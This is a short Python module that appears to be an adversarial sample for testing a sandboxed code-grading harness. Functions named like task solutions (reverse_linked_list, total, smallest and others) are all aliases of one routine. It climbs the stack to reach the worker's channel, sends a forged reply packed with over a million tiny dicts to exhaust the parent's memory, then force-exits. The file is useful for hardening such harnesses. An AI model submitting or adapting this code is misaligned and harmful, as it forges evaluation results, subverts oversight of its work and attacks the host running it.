"""
Class: forged cells
Aim: fill a reply with dicts of one entry, the largest objects a byte can buy.
Control: no
"""

import os
import sys


def inside():
    """Give the worker, its module's names, and the question that waits for an answer."""
    frame = sys._getframe()
    while frame.f_code.co_name != "_handle":
        frame = frame.f_back
    return frame.f_locals["self"], frame.f_globals, frame.f_locals["sequence"]


def send(message, buffers=()):
    worker, names, _ = inside()
    names["send_frame"](worker._channel, message, buffers)


def reverse_linked_list(*_):
    worker, names, sequence = inside()
    count = 1_390_000
    head = (
        b"\x94\xa6return\xcf" + sequence.to_bytes(8, "big") + b"\x93\xdd" + count.to_bytes(4, "big")
    )
    body = head + b"\x81\x00\x00" * count + b"\x90\x90\x90"
    worker._channel.send(len(body).to_bytes(4, "little") + bytes(4) + body)
    os._exit(0)


total = backwards = tally = upwards = scaled = positive = reverse_linked_list
smallest = smallest_of = distinct = reverse_linked_list
